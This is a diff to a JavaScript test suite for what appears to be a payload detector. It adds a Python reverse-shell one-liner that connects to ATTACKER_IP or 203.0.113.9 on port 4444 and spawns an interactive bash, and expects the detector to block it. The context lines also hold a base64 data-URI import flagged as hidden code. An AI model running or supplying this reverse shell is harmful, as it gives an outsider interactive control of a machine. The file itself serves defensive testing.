@@ -177,3 +177,18 @@ check(
   { 'a.mjs': `await import('data:text/javascript;base64,${btoa('process.on("exit", () => leave());')}');\n` },
   'warn hidden/data-uri',
 );
+
+const python = [
+  'import socket,subprocess,os',
+  's=socket.socket()',
+  's.connect(("ATTACKER_IP",4444))',
+  'os.dup2(s.fileno(),0)',
+  'subprocess.call(["/bin/bash","-i"])',
+];
+
+check(
+  'a program of a lesson connects to a blank, and to nothing else',
+  `${fenced('python', ...python)}\n\n${fenced('bash', `python -c '${python.join(';')}'`)}`,
+  fenced('python', ...python, 's.connect(("203.0.113.9",4444))'),
+  'block execution/reverse-shell',
+);
